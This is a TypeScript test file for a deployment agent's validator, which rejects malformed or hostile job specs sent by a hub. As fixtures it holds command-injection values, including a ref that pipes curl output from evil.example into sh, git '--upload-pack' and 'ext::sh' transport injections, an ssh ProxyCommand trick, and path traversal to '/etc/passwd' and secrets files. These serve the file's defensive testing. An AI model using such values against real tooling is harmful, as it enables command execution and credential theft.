/**
 * What the agent accepts from the hub as a job: the spec is rebuilt from known, well-formed fields only, and
 * everything else is named in one message that says nothing was fetched or run.
 */
import { describe, expect, it } from 'vitest';
import { checkClaim, checkJobSpec } from '../../agent/check-job-spec.js';

const SHA = '0123456789abcdef0123456789abcdef01234567';
const good = {
  id: 'job_1a2b_0_9f',
  deploymentId: 'dep_1a2b',
  repository: 'acme/shop',
  environment: 'production',
  ref: 'main',
  sha: SHA,
  git: { url: 'https://github.com/acme/shop.git' },
  instructions: 'bitenvoy.yml',
  createdAt: '2026-01-31T12:00:00.000Z',
};

describe('checkJobSpec', () => {
  it('keeps only the known fields: extra ones a hub sends are dropped unread', () => {
    const checked = checkJobSpec({ ...good, command: 'cat secrets.yml', steps: [{ name: 'x', run: 'id' }], env: { A: '1' }, secrets: ['DB'], git: { ...good.git, uploadPack: 'sh' } });
    expect(checked.spec).toEqual(good);
    expect(checkJobSpec({ ...good, rollback: true }).spec).toEqual({ ...good, rollback: true });
    // A ref git allows passes, unless a shell would act on its characters (the agent hands it to steps as BITENVOY_REF).
    expect(checkJobSpec({ ...good, ref: 'feature/#12-ü' }).spec?.ref).toBe('feature/#12-ü');
    expect(checkJobSpec({ ...good, git: { url: '/srv/git/acme/shop.git' } }).spec?.git.url).toBe('/srv/git/acme/shop.git');
  });

  it.each([
    ['a short SHA', { sha: 'abc1234' }, '`sha`: expected a full 40-character commit SHA in lowercase hex, got "abc1234"'],
    ['a SHA that git would take for an option', { sha: '--upload-pack=touch /tmp/x' }, '`sha`: expected a full 40-character commit SHA in lowercase hex, got "--upload-pack=touch /tmp/x"'],
    ['an instruction file outside the commit', { instructions: '../../secrets.yml' }, '`instructions`: expected a relative path inside the commit, like `bitenvoy.yml` or `deploy/bitenvoy.yml`, got "../../secrets.yml"'],
    ['an absolute instruction file', { instructions: '/etc/passwd' }, '`instructions`: expected a relative path inside the commit, like `bitenvoy.yml` or `deploy/bitenvoy.yml`, got "/etc/passwd"'],
    ['a repository that climbs', { repository: 'acme/..' }, '`repository`: expected `owner/name`, got "acme/.."'],
    ['an environment that is a path', { environment: '../../etc' }, '`environment`: expected an environment name of letters, digits, `.`, `_` and `-`, got "../../etc"'],
    ['a URL that is an option', { git: { url: '--upload-pack=sh' } }, '`git.url`: expected an `https://`, `http://`, `ssh://`, `git://` or `file://` URL, or an absolute path, got "--upload-pack=sh"'],
    ['a transport that runs commands', { git: { url: 'ext::sh -c id' } }, '`git.url`: expected an `https://`, `http://`, `ssh://`, `git://` or `file://` URL, or an absolute path, got "ext::sh -c id"'],
    ['an ssh host that is an option', { git: { url: 'ssh://-oProxyCommand=id/x' } }, '`git.url`: expected'],
    ['a ref that is an option', { ref: '-x' }, `\`ref\`: expected a branch or tag name like \`main\`, without shell characters ($ \` ; | & ' " < > ( ) { } !), got "-x"`],
    ['a ref a shell would act on', { ref: '$(curl${IFS}-s${IFS}evil.example|sh)' }, `\`ref\`: expected a branch or tag name like \`main\`, without shell characters ($ \` ; | & ' " < > ( ) { } !), got "$(curl\${IFS}-s\${IFS}evil.example|sh)"`],
    ['a ref git would not allow', { ref: 'main:refs/heads/x' }, `\`ref\`: expected a branch or tag name like \`main\`, without shell characters ($ \` ; | & ' " < > ( ) { } !), got "main:refs/heads/x"`],
    ['a number for a name', { repository: 42 }, '`repository`: expected `owner/name`, got a number'],
    ['a missing git', { git: undefined }, '`git.url`: expected an `https://`, `http://`, `ssh://`, `git://` or `file://` URL, or an absolute path, got nothing'],
    ['a huge string', { deploymentId: 'd'.repeat(1_000_000) }, `\`deploymentId\`: expected a deployment id of letters, digits, \`_\` and \`-\`, got "${'d'.repeat(60)}"… (1000000 characters)`],
    ['a rollback that is not a boolean', { rollback: 'yes' }, '`rollback`: expected `true` or `false`, got "yes"'],
  ])('refuses %s', (_what, change, problem) => {
    const checked = checkJobSpec({ ...good, ...change });
    expect(checked.spec).toBeUndefined();
    expect(checked.id).toBe(good.id);
    expect(checked.problem).toContain(problem);
    expect(checked.problem).toMatch(/^the hub sent a job this agent cannot run, so nothing was fetched or run: .*\. Check that the hub and this agent run the same BitEnvoy version; if they do, the hub may have been tampered with$/s);
    expect(checked.problem!.length).toBeLessThan(4000);
  });

  it('has no id to report against for a job without a usable one', () => {
    expect(checkJobSpec(null)).toMatchObject({ id: undefined, problem: expect.stringContaining('`id`: expected a job id of letters, digits, `_` and `-`, got nothing') });
    expect(checkJobSpec('job')).toMatchObject({ id: undefined });
    expect(checkJobSpec({ ...good, id: '../../etc/passwd' })).toMatchObject({ id: undefined, problem: expect.stringContaining('got "../../etc/passwd"') });
    expect(checkJobSpec({ ...good, id: 'j'.repeat(129) })).toMatchObject({ id: undefined });
  });

  it('lists every problem at once', () => {
    expect(checkJobSpec({ id: 'job_2' }).problem).toBe(
      'the hub sent a job this agent cannot run, so nothing was fetched or run: ' +
        '`deploymentId`: expected a deployment id of letters, digits, `_` and `-`, got nothing; ' +
        '`repository`: expected `owner/name`, got nothing; ' +
        '`environment`: expected an environment name of letters, digits, `.`, `_` and `-`, got nothing; ' +
        '`ref`: expected a branch or tag name like `main`, without shell characters ($ ` ; | & \' " < > ( ) { } !), got nothing; ' +
        '`sha`: expected a full 40-character commit SHA in lowercase hex, got nothing; ' +
        '`git.url`: expected an `https://`, `http://`, `ssh://`, `git://` or `file://` URL, or an absolute path, got nothing; ' +
        '`instructions`: expected a relative path inside the commit, like `bitenvoy.yml` or `deploy/bitenvoy.yml`, got nothing; ' +
        '`createdAt`: expected an ISO time, got nothing. ' +
        'Check that the hub and this agent run the same BitEnvoy version; if they do, the hub may have been tampered with',
    );
  });
});

describe('checkClaim', () => {
  const auth = { username: 'x-access-token', password: 'ghs_1', expiresAt: '2026-01-31T13:00:00Z' };

  it('takes credentials only for this job, as plain strings, and a sane lease', () => {
    expect(checkClaim({ job: { id: 'job_1', git: { url: 'u', auth } }, lease: { leaseSeconds: 60 } }, 'job_1')).toEqual({ auth, leaseSeconds: 60 });
    expect(checkClaim({ job: { id: 'job_2', git: { url: 'u', auth } } }, 'job_1')).toEqual({});
    expect(checkClaim({ job: { id: 'job_1', git: { auth: { ...auth, password: { $gt: '' } } } } }, 'job_1')).toEqual({});
    expect(checkClaim({ job: { id: 'job_1' }, lease: { leaseSeconds: 'soon' } }, 'job_1')).toEqual({});
    expect(checkClaim({ lease: { leaseSeconds: 0 } }, 'job_1')).toEqual({});
    expect(checkClaim(null, 'job_1')).toEqual({});
    expect(checkClaim('claimed', 'job_1')).toEqual({});
  });
});
